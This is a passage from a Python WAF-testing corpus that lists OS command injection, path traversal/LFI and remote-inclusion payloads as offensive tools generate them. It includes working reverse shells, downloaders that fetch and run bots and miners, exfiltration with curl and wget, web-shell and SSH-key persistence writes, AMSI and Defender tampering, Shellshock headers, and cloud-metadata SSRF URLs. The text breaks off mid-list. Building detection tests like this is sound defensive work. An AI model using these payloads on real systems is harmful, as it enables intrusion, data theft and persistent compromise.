"""Blind set "hundredseventyseventh": OS command injection, local file inclusion / path traversal and remote file
inclusion the way offensive tools generate them, with benign requests that carry the same words innocently.

The angle: the payloads the well-known open-source attack tools and scanners generate when pointed at a parameter,
recalled from memory (never looked up): commix's classic (results-based), eval-based, time-based, file-based and
tempfile-based techniques and its tamper scripts (space2ifs, dollaratsigns, singlequotes, doublequotes,
backslashes, uninitializedvariable, slash2env, base64encode, hexencode, rev, caret for cmd.exe), Burp Scanner's
and Nuclei templates' one-shot probes and out-of-band (interactsh, Collaborator) checks, the reverse-shell one-liners
msfvenom's cmd/unix payloads and shell generators emit, Nikto's and Nessus's Shellshock and RFI checks, dotdotpwn's
traversal permutations (dots, slashes, percent, double-percent, overlong UTF-8, %u and full-width encodings, depth
and null-byte / extension variants), LFISuite/Kadimus/fimap-style wrapper and log-poisoning probes, SSRFmap's and
Gopherus's URL and protocol modules, and the classic CMS RFI requests (mosConfig_absolute_path, phpbb_root_path).
Each is written as the tool places it: the probe, the confirmation and the exploitation request, in a parameter,
a header or a body. A comment above each list names the family, the tool style and the target (POSIX shell,
cmd.exe, PowerShell, bash CGI, PHP include(), a server-side URL fetcher, the web server's file system).

Families (category rce):
  unix-command-injection, unix-shell-expression-evasion, windows-cmd-injection, powershell,
  unix-command-names-with-paths, reverse-shells, shellshock, downloaders, file-write-via-shell,
  restricted-file-names-in-commands
Families (category lfi):
  path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi, log-poisoning-targets,
  restricted-file-extensions
Families (category rfi):
  url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference, protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), under the parameter names the tools target for each category (host, ip, cmd,
domain for commands; file, page, path, doc, lang, download for files; page, include, template, url, src for
inclusion), once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our
routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names
(foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Shellshock goes where bash CGI reads it: whole header values
(User-Agent, Referer, Cookie, Accept, custom headers). Requests a tool writes as a whole `name=value` pair with its
own percent-encoding on the wire (dotdotpwn's encoded traversals, fimap's and Nikto's `page=http://...?`, the CMS
RFI parameters) go as they are written: as the query string or the form body. Payloads with control characters
(newline separators, null bytes) never go into headers, cookies, the path or an XML body.

Authorship and independence: written for this repository from general knowledge of each attack family and of how
the named tools build their requests, recalled from memory, and the detection titles alone; no WAF rule, engine
source, ruleset regression test, tool source or public payload list was read. Measured once on unchanged code;
deterministic (no clock, no randomness).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredseventyseventh"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place
# (a whole header for Shellshock, a whole `name=value` pair with the tool's own wire encoding).
Entry = str | tuple[str, str, str]
Q = ("query", "rs-query")
F = ("form", "rs-raw-body")
UA_ = ("header:User-Agent", "rs-header:User-Agent")
REF = ("header:Referer", "rs-header:Referer")
CK = ("header:Cookie", "rs-header:Cookie")
XH = ("header:X-Api-Version", "rs-header:X-Test-Header")
ACC = ("header:Accept", "rs-header:Accept")

# ================================================================================================================
# rce
# ----------------------------------------------------------------------------------------------------------------
# unix-command-injection. Target: a POSIX shell behind a ping / nslookup / convert form (PHP system(), Python
# subprocess with shell=True, Node child_process.exec). commix's classic (results-based) technique: a separator,
# then a random tag echoed around shell arithmetic, so the tag and the sum appear in the page
UNIX_INJECTION: list[Entry] = [
    ";echo ZKQWPV$((41+37))$(echo ZKQWPV)ZKQWPV",
    "|echo RNTXLA$((12+80))$(echo RNTXLA)RNTXLA",
    "&&echo HJSEOB$((66+9))$(echo HJSEOB)HJSEOB",
    "||echo MWPDGE$((25+52))$(echo MWPDGE)MWPDGE",
    "\necho YFUCTB$((7+90))$(echo YFUCTB)YFUCTB",
    # commix time-based technique: the tag's length compared in the shell, sleep only when it matches
    ";str=$(echo QLXUNV);str1=${#str};if [ 6 -ne ${str1} ];then sleep 0;else sleep 4;fi ",
    "&&sleep 5",
    "$(sleep 7)",
    # Burp Scanner's time-delay probe: one string that works in unquoted, single- and double-quoted contexts
    "|ping -n 21 127.0.0.1||`ping -c 21 127.0.0.1` #' |ping -n 21 127.0.0.1||`ping -c 21 127.0.0.1` #\\\" "
    "|ping -n 21 127.0.0.1",
    # Nuclei template one-shot checks: every separator with id, the response matched on uid=
    ";id",
    "|id",
    "&&id",
    "`id`",
    "$(id)",
    "127.0.0.1|whoami",
    # out-of-band confirmation (interactsh, Collaborator): the command's output as a DNS label
    "1;nslookup `whoami`.c5v0d2q7a9nf.oast.fun",
    "|dig +short $(id -u).y8k2fq0v1d.burpcollaborator.net",
]

# unix-shell-expression/evasion. Target: the same POSIX shell behind a filter that strips spaces, slashes or words.
# commix's tamper scripts, one per entry, then the tricks filter-bypass challenges and scanners add
UNIX_EVASION: list[Entry] = [
    ";echo${IFS}GHTRSA$((14+71))$(echo${IFS}GHTRSA)GHTRSA",   # space2ifs
    ";c$@a$@t /e$@tc/pa$@sswd",   # dollaratsigns
    ";c'a't /e't'c/p'a'sswd",   # singlequotes
    ";c\"a\"t /e\"t\"c/pa\"ss\"wd",   # doublequotes
    r";c\a\t /e\t\c/p\a\s\s\w\d",   # backslashes
    ";c${u}a${u}t /et${u}c/pa${u}sswd",   # uninitializedvariable
    ";cat ${PATH:0:1}etc${PATH:0:1}passwd",   # slash2env
    ";echo aWQ=|base64 -d|sh",   # base64encode
    ";$(printf '\\x69\\x64')",   # hexencode
    ";$(rev<<<'di')",   # rev
    ";cat$IFS$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";/???/c?t /???/p?ss??",
    ";a=wh;b=oami;$a$b",
    ";X=$'\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64';eval $X",
    ";who$()ami",
    ";$(echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d)",
]

# windows-cmd-injection. Target: cmd.exe behind an IIS / .NET or Windows PHP ping form. commix's Windows classic
# technique (for /f around set /a), its caret tamper, and the Nuclei / Burp probes for cmd.exe
WINDOWS_CMD: list[Entry] = [
    "|for /f \"tokens=*\" %i in ('cmd /c \"set /a (67+24)\"') do @set /p =OVCAJG%iOVCAJG< nul",
    "& ping -n 11 127.0.0.1 &",
    "& whoami",
    "| whoami /all",
    "&& ver",
    "& net user",
    "& ipconfig /all",
    "& systeminfo",
    "127.0.0.1 & nslookup %USERNAME%.d1k9o2x7wq.oast.site",
    "& cmd /c \"echo %COMPUTERNAME%\"",
    "& w^h^o^a^m^i",
    "| c^m^d /c s^e^t",
    "& set /a 78+13",
    "&& timeout /t 5 /nobreak",
    "& reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\" /v ProductName",
    "& wmic os get caption,version",
    "& cmd.exe /c dir %SYSTEMROOT%\\System32\\config",
]

# powershell. Target: Windows PowerShell 5.1 / pwsh reached through cmd.exe. Nishang, Empire-launcher and
# commix-alter-shell style one-liners, encoded commands and AMSI / Defender tampering
POWERSHELL: list[Entry] = [
    "& powershell -NoP -NonI -W Hidden -Exec Bypass -Enc dwBoAG8AYQBtAGkA",
    "| powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBE"
    "AG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMQAwAC4AMQA0AC4ANwAvAGEALgBwAHMAMQAnACkA",
    "& powershell -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString("
    "'http://10.10.14.7/Invoke-PowerShellTcp.ps1');Invoke-PowerShellTcp -Reverse -IPAddress 10.10.14.7 -Port 443\"",
    "& powershell -c \"Start-Sleep -Seconds 5\"",
    "| pwsh -c 'Get-Content /etc/passwd'",
    "& powershell -c \"Invoke-WebRequest -Uri http://10.10.14.7/nc.exe -OutFile C:\\Windows\\Temp\\nc.exe\"",
    "& powershell -c \"Get-WmiObject Win32_OperatingSystem | Select-Object Caption,Version\"",
    "& powershell Resolve-DnsName $env:USERNAME.d1k9o2x7wq.oast.site",
    "$(powershell -c whoami)",
    "& powershell -c \"[System.Diagnostics.Process]::Start('cmd.exe','/c whoami')\"",
    "& powershell -c \"Add-MpPreference -ExclusionPath C:\\Windows\\Temp\"",
    "& powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
    "| powershell -version 2 -c whoami",
    "& p^o^w^e^r^s^h^e^l^l -c whoami",
    "& powershell -c \"$x=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('RwBlAHQALQBQAHIAbwBjAGUA"
    "cwBzAA=='));iex $x\"",
    "& powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField("
    "'amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"",
    "& powershell -w hidden -c \"IEX(IWR -UseBasicParsing http://10.10.14.7/PowerUp.ps1);Invoke-AllChecks\"",
]

# unix-command-names-with-paths. Target: a POSIX shell whose filter blocks bare command words; the tools call the
# binary by its absolute path instead (and linPEAS-style enumeration the exploitation step runs)
UNIX_PATHS: list[Entry] = [
    ";/bin/cat /etc/issue",
    "|/usr/bin/id",
    "$(/usr/bin/whoami)",
    "`/bin/uname -a`",
    ";/bin/sh -c id",
    "&&/bin/bash -c 'id;hostname'",
    ";/usr/bin/env",
    "|/sbin/ifconfig -a",
    ";/bin/ls -la /var/www",
    "||/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    ";/usr/bin/perl -e 'print `id`'",
    "|/bin/busybox id",
    ";/usr/local/bin/php -r 'system(\"id\");'",
    ";/bin/ps aux",
    ";/usr/bin/find / -perm -4000 -type f 2>/dev/null",
    ";/usr/bin/sudo -l",
    "|/bin/netstat -tulpn",
]

# reverse-shells. Target: the host's shell and interpreters; the one-liners msfvenom's cmd/unix payloads and shell
# generators emit, placed after a separator, pointing back at the tester's listener
REVERSE_SHELLS: list[Entry] = [
    ";bash -i >& /dev/tcp/10.10.14.7/4444 0>&1",
    "|bash -c 'bash -i >& /dev/tcp/10.10.14.7/443 0>&1'",
    "$(bash -c 'exec 5<>/dev/tcp/10.10.14.7/9001;cat <&5 | while read line; do $line 2>&5 >&5; done')",
    ";0<&196;exec 196<>/dev/tcp/10.10.14.7/4242; sh <&196 >&196 2>&196",
    ";nc -e /bin/sh 10.10.14.7 4444",
    "|nc 10.10.14.7 4444 -e /bin/bash",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.10.14.7 4444 >/tmp/f",
    ";mknod /tmp/backpipe p;/bin/sh 0</tmp/backpipe | nc 10.10.14.7 4444 1>/tmp/backpipe",
    ";python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    "s.connect((\"10.10.14.7\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);"
    "p=subprocess.call([\"/bin/sh\",\"-i\"]);'",
    ";python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"10.10.14.7\",9001));"
    "[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")'",
    ";perl -e 'use Socket;$i=\"10.10.14.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
    "exec(\"/bin/sh -i\");};'",
    ";socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.10.14.7:4444",
    ";php -r '$sock=fsockopen(\"10.10.14.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";ruby -rsocket -e'f=TCPSocket.open(\"10.10.14.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    ";awk 'BEGIN {s = \"/inet/tcp/0/10.10.14.7/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; "
    "if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
    ";node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 10.10.14.7 4444\")'",
    "&powershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('10.10.14.7',443);"
    "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
    "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;"
    "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
    "$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';"
    "$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);"
    "$stream.Flush()};$client.Close()\"",
]

# shellshock (CVE-2014-6271 and CVE-2014-7169). Target: bash run by a CGI script (Apache mod_cgi, cgi-bin/*.sh),
# which copies request headers into environment variables. Nikto's, Nessus's, Nuclei's and Metasploit's
# apache_mod_cgi_bash_env requests, each in the header the tool uses
SHELLSHOCK: list[Entry] = [
    ("() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'", *UA_),
    ("() { :;}; /bin/bash -c \"echo vulnerable\"", *REF),
    ("() { :; }; echo Content-Type: text/plain; echo; /usr/bin/id", *XH),
    ("() { _; } >_[$($())] { echo; id; }", *UA_),
    ("() { :; }; /bin/bash -i >& /dev/tcp/10.10.14.7/4444 0>&1", *CK),
    ("() { :; }; /usr/bin/wget http://10.10.14.7/x -O /tmp/x", *REF),
    ("() { :; }; echo; /bin/sleep 5", *UA_),
    ("() { ignored; }; echo Content-Type: text/html; echo ; /bin/cat /etc/passwd", *ACC),
    ("() { :; }; echo; echo $(/bin/ls -la /)", *CK),
    ("() { :;};/usr/bin/curl -s http://c5v0d2q7a9nf.oast.fun/$(whoami)", *UA_),
    ("() { :; }; /bin/bash -c 'nc 10.10.14.7 4444 -e /bin/bash'", *REF),
    ("() { (a)=>\\' bash -c \"echo date\"; cat echo", *UA_),
    ("() { :; }; /bin/bash -c \"echo 1337$((1+1))\"", *ACC),
    ("() { :; }; echo; echo; /bin/bash -c 'echo aWQ= | base64 -d | sh'", *XH),
    ("() { :;}; echo \"X-Shellshock: $(/usr/bin/id)\"", *CK),
    ("() { :; }; /bin/nslookup shellshock.y8k2fq0v1d.burpcollaborator.net", *REF),
    ("() { :; }; echo; /usr/bin/uname -a", "header:X-Forwarded-For", "rs-header:X-Forwarded-For"),
]

# downloaders. Target: the host's shell fetching a second stage (linPEAS, a miner, a Mirai-style bot, a shell
# script) with curl / wget / tftp / busybox and piping or chmod-ing it; the Windows LOLBins the tools use
DOWNLOADERS: list[Entry] = [
    ";curl http://10.10.14.7/linpeas.sh|sh",
    "|wget -qO- http://10.10.14.7/s.sh|bash",
    ";wget http://10.10.14.7/x86 -O /tmp/.x;chmod +x /tmp/.x;/tmp/.x",
    ";cd /tmp;wget http://203.0.113.66/bins/mips;chmod 777 mips;./mips telnet.mips",
    "$(curl -fsSL http://203.0.113.66/i.sh | sh)",
    ";busybox wget http://203.0.113.66/bot.arm7 -O /tmp/bot;chmod 777 /tmp/bot;/tmp/bot",
    ";tftp -g -r x.sh 10.10.14.7;sh x.sh",
    ";curl -s http://10.10.14.7/shell.py | python3",
    "&& curl -sk https://attacker.example/m.sh -o- | bash -s",
    ";curl 203.0.113.66:8080/xmrig -o /tmp/kworker && chmod +x /tmp/kworker && nohup /tmp/kworker &",
    ";wget --post-file=/etc/passwd http://10.10.14.7/",
    ";curl -F 'f=@/etc/passwd' http://10.10.14.7/up",
    "& certutil -urlcache -split -f http://10.10.14.7/nc.exe C:\\Windows\\Temp\\nc.exe",
    "& bitsadmin /transfer job /download /priority high http://10.10.14.7/b.exe C:\\Users\\Public\\b.exe",
    "| mshta http://10.10.14.7/payload.hta",
    "& regsvr32 /s /n /u /i:http://10.10.14.7/file.sct scrobj.dll",
    "\ncurl http://10.10.14.7/a.sh -o /tmp/a.sh\nsh /tmp/a.sh\n",
]

# file-write via shell. Target: the host's shell writing into the web root, cron, authorized_keys or /etc/passwd.
# commix's file-based technique (a tag written to a file the tool then requests) and tempfile-based one, then
# the web shells and persistence the exploitation step writes
FILE_WRITE: list[Entry] = [
    ";echo TVQZBE>/var/www/html/TVQZBE.txt",
    "|echo $((35+48))>/tmp/OIWRDK.txt",
    ";echo IVSUEW | tee /var/www/html/IVSUEW.txt",
    "|echo '<?php system($_GET[\"cmd\"]); ?>' > /var/www/html/cmd.php",
    ";echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg== | base64 -d > /var/www/html/s.php",
    ";printf '<?php eval($_POST[1]);?>' >> /var/www/html/index.php",
    "|tee /var/www/html/x.php <<< '<?php phpinfo(); ?>'",
    ";echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA root@kali' >> /root/.ssh/authorized_keys",
    ";echo '* * * * * root bash -c \"bash -i >& /dev/tcp/10.10.14.7/4444 0>&1\"' > /etc/cron.d/x",
    ";(crontab -l;echo '*/5 * * * * curl -s http://203.0.113.66/c.sh|sh')|crontab -",
    ";echo 'hacker:$1$xyz$PoVW5gDKL5KtR1CfQ8Lix/:0:0::/root:/bin/bash' >> /etc/passwd",
    "& echo ^<%@ Page Language=\"C#\" %^> > C:\\inetpub\\wwwroot\\s.aspx",
    "&echo ^<?php system($_GET['c']); ?^> > C:\\xampp\\htdocs\\c.php",
    ";dd if=/etc/shadow of=/var/www/html/s.txt",
    "$(echo '<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>' > /opt/tomcat/webapps/ROOT/c.jsp)",
    ";cat > /var/www/html/up.php <<'EOF'\n<?php move_uploaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']);\n"
    "EOF\n",
    ";echo 'nc -e /bin/sh 10.10.14.7 4444' >> ~/.bashrc",
]

# restricted-file-names in commands. Target: the host's shell reading the files a tester proves access with
# (Nuclei's and Burp's confirmation step: the response matched on root:x:0:0 or [fonts])
RESTRICTED_FILES: list[Entry] = [
    ";cat /etc/passwd",
    "|cat /etc/shadow",
    "&& head -n 5 /etc/passwd",
    "`cat /etc/hosts`",
    ";tail /var/log/auth.log",
    ";cat /proc/self/environ",
    ";cat ~/.ssh/id_rsa",
    ";cat /root/.bash_history",
    ";cat /var/www/html/wp-config.php",
    ";cat .env",
    "& type C:\\Windows\\win.ini",
    "| type C:\\boot.ini",
    "& type %SYSTEMROOT%\\System32\\drivers\\etc\\hosts",
    "& more C:\\inetpub\\wwwroot\\web.config",
    ";grep -r password /var/www/html/config",
    ";cat /etc/mysql/my.cnf",
    "||cat .git/config",
]

# ================================================================================================================
# lfi
# ----------------------------------------------------------------------------------------------------------------
# path-traversal. Target: a download / view / include handler on a Linux or Windows web server that joins the
# parameter to a base directory. dotdotpwn's permutations: the dot-dot-slash in every encoding it cycles (plain,
# backslash, percent, double-percent, overlong UTF-8, %u, full-width, doubled dots that survive a one-pass strip,
# Tomcat's ..;/), at several depths, to the files it checks for (passwd, issue, win.ini, boot.ini, hosts). The
# encoded forms as the application sees them (decoded once by the server: a double-decoding application's input)
PATH_TRAVERSAL: list[Entry] = [
    "../../../../../../etc/passwd",
    "..\\..\\..\\..\\..\\..\\windows\\win.ini",
    "../../../../../../../../../../etc/issue",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cboot.ini",
    "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
    "..%u2216..%u2216..%u2216windows%u2216win.ini",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "..\\/..\\/..\\/..\\/etc/passwd",
    "..;/..;/..;/etc/passwd",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini",
    "%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
    "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd",
    # the same permutations with dotdotpwn's own wire encoding (the server decodes once, the handler sees ../)
    ("file=..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", *Q),
    ("page=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", *Q),
    ("doc=..%5c..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts", *F),
    ("path=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", *Q),
    ("template=..%252f..%252f..%252f..%252fetc%252fpasswd", *Q),
    ("download=%2e%2e%5c%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", *F),
]

# os-file-access. Target: the server's file system through a traversal-prone include / download parameter:
# account and process files, Windows system files, web server and application secrets (Nuclei's exposure and
# LFI templates, LFISuite's and Burp's confirmation files)
OS_FILES: list[Entry] = [
    "/proc/self/environ",
    "/proc/self/cmdline",
    "../../../../proc/self/cwd/app.py",
    "../../../../../windows/win.ini",
    "..\\..\\..\\boot.ini",
    "../../web.config",
    "../.htaccess",
    "../../.git/config",
    ".git/HEAD",
    "../../../.env",
    "../../../../home/ubuntu/.ssh/id_rsa",
    "../../../../root/.ssh/id_rsa",
    "../../../../root/.ssh/authorized_keys",
    "../../WEB-INF/web.xml",
    "../../../../etc/hosts",
    "../../../../var/www/html/wp-config.php",
    "../config/database.yml",
    "../../.aws/credentials",
    "../../../../etc/mysql/my.cnf",
    "../../../../etc/nginx/nginx.conf",
    "../../../../windows/system32/config/SAM",
    "../../../../Windows/Panther/Unattend.xml",
    "../../../../etc/ssh/sshd_config",
    ".git/logs/HEAD",
]

# absolute-paths. Target: a file handler that accepts a full path (Nuclei's and Burp's first LFI probe before any
# traversal: the file by its absolute path, Unix and Windows, plus the normalisation variants that skip a check)
ABSOLUTE: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/version",
    "C:\\Windows\\win.ini",
    "c:/windows/win.ini",
    "C:\\boot.ini",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "C:\\inetpub\\wwwroot\\web.config",
    "/var/www/html/index.php",
    "/usr/local/etc/php/php.ini",
    "/etc/php/7.4/apache2/php.ini",
    "/opt/tomcat/conf/tomcat-users.xml",
    "/usr/local/tomcat/conf/server.xml",
    "/root/.ssh/id_rsa",
    "\\\\?\\C:\\Windows\\win.ini",
    "//etc/passwd",
    "/./././etc/passwd",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/etc/krb5.keytab",
    "C:/xampp/apache/conf/httpd.conf",
    "C:\\Program Files\\MySQL\\MySQL Server 8.0\\my.ini",
    "/etc/os-release",
    "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
    "/etc/passwd/",
]

# null-byte/truncation. Target: PHP before 5.3.4 (and C-backed handlers) that append an extension: the null byte
# ends the string, the over-long path is cut at MAXPATHLEN (4096 on Linux, ~260 on Windows). dotdotpwn's and
# fimap's extension variants
NULL_BYTE: list[Entry] = [
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.jpg",
    "../../../../etc/passwd\x00.php",
    "../../../../../etc/passwd\x00.html",
    "/etc/passwd\x00.png",
    "..\\..\\..\\windows\\win.ini\x00.txt",
    "C:\\boot.ini\x00.htm",
    "....//....//etc/passwd\x00.inc",
    "/etc/passwd\x00",
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%2500.jpg",
    "..%2f..%2f..%2fetc%2fpasswd%00",
    "../../../../etc/shadow\x00.pdf",
    "../../../../proc/self/environ\x00",
    ("page=../../../../etc/passwd%00", *Q),
    ("file=../../../../etc/passwd%00.pdf", *Q),
    ("lang=../../../../../etc/passwd%00", *F),
    ("template=../../../../../windows/win.ini%00.tpl", *Q),
    # path truncation: the appended extension falls beyond the length limit
    "../../../../etc/passwd" + "/." * 2050,
    "../../../../etc/passwd" + "./" * 2050,
    "../../../../boot.ini" + "." * 260,
    "../../../../windows/win.ini" + "\\." * 130,
    "a/../../../../../etc/passwd" + "/" * 4100,
    ("page=../../../../etc/passwd" + "%2f." * 2050, *Q),
]

# php-wrapper-lfi. Target: PHP include()/require()/file_get_contents(): the stream wrappers LFISuite, Kadimus and
# the Nuclei PHP templates use to read source as base64 or ROT13, run php://input, unpack zip:// and phar://, and
# the iconv filter chain that builds code from nothing
PHP_WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/convert.base64-encode/resource=../config.php",
    "php://filter/read=convert.base64-encode/resource=/etc/passwd",
    "php://filter/read=string.rot13/resource=index.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=index.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/index.php",
    "pHp://FilTer/convert.base64-encode/resource=index.php",
    "php://filter/convert.base64-encode/resource=/proc/self/environ",
    "php://filter/read=convert.quoted-printable-encode/resource=wp-config.php",
    "php://filter/dechunk/resource=/etc/passwd",
    "php://filter/string.toupper|string.rot13/resource=config.php",
    "php://filter/convert.base64-encode/resource=../../../../var/www/html/.env",
    "php://input",
    "zip://uploads/avatar.jpg#shell.php",
    "zip:///var/www/html/uploads/doc.zip#payload.php",
    "phar://uploads/avatar.jpg/shell.php",
    "phar://./uploads/a.gif/test.txt",
    "compress.zlib://../../../../etc/passwd",
    "file:///etc/passwd",
    "file://C:/Windows/win.ini",
    "glob:///var/www/html/*.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.iconv.855.CP936|convert.iconv.IBM-932.UTF-8|"
    "convert.base64-decode|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.base64-decode/resource=php://temp",
    ("page=php://filter/convert.base64-encode/resource=index", *Q),
    ("file=php://filter/read=convert.base64-encode/resource=../../config", *F),
]

# log-poisoning targets. Target: PHP include() of a file the attacker already wrote PHP into (a User-Agent in the
# access log, a username in auth.log, a session value): LFISuite's and Kadimus's log and session paths
LOG_TARGETS: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "../../../../var/log/apache2/error.log",
    "/var/log/apache/access.log",
    "/var/log/httpd/access_log",
    "/var/log/httpd/error_log",
    "../../../../var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "../../../../var/log/auth.log",
    "/var/log/secure",
    "/var/log/vsftpd.log",
    "/var/log/mail.log",
    "/var/mail/www-data",
    "/proc/self/fd/2",
    "../../../../proc/self/fd/7",
    "/var/lib/php/sessions/sess_9a6f1c2e8b3d4a5f6e7c8d9b0a1f2e3d",
    "/tmp/sess_9a6f1c2e8b3d4a5f6e7c8d9b0a1f2e3d",
    "C:\\xampp\\apache\\logs\\access.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240601.log",
    "../../../../usr/local/apache2/logs/access_log",
    "/opt/lampp/logs/access_log",
    "/var/log/apache2/other_vhosts_access.log",
    "../../../../proc/self/environ",
    "..\\..\\..\\xampp\\apache\\logs\\error.log",
]

# restricted-file-extensions. Target: the web server's file system and its static handler: backup, editor-swap,
# config, ini and SQL-dump files (Nuclei's backup-file and config exposure templates, the download-parameter
# probes)
RESTRICTED_EXT: list[Entry] = [
    "index.php.bak",
    "config.php.old",
    "wp-config.php~",
    "wp-config.php.bak",
    "../config/settings.ini",
    "../../app.config",
    "../database.sql",
    "backup.sql",
    "dump.sql",
    "../includes/config.inc",
    "../../php.ini",
    "settings.py.orig",
    "../../../conf/app.conf",
    "Web.config.old",
    "../logs/debug.log",
    "config.php.swp",
    "users.sql",
    "../admin/config.bak",
    "../../global.asa",
    "../../secrets.yml.bak",
    ".env.bak",
    "../../WEB-INF/classes/application.properties",
    "db.mdb",
    "../boot.ini",
]

# ================================================================================================================
# rfi
# ----------------------------------------------------------------------------------------------------------------
# url-with-ip-address. Target: PHP include() with allow_url_include on (the shell text file on the tester's
# address), and server-side URL fetchers SSRFmap points at internal addresses (cloud metadata, Redis, Docker,
# Elasticsearch, Consul, etcd, kubelet) written as dotted, decimal, hex, octal, short and IPv6 forms
URL_IP: list[Entry] = [
    "http://10.10.14.7/shell.txt",
    "http://192.168.56.101:8000/c99.txt",
    "http://203.0.113.66/r57.txt",
    "https://198.51.100.23/php-reverse-shell.php",
    "http://10.10.14.7:8080/phpinfo.txt",
    "http://3232235786/shell.txt",
    "http://0xc0a8010a/s.txt",
    "http://10.10.14.7:4444/",
    "http://192.168.56.101/backdoor.php?cmd=id",
    "http://127.0.0.1:6379/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://100.100.100.200/latest/meta-data/",
    "http://2130706433/",
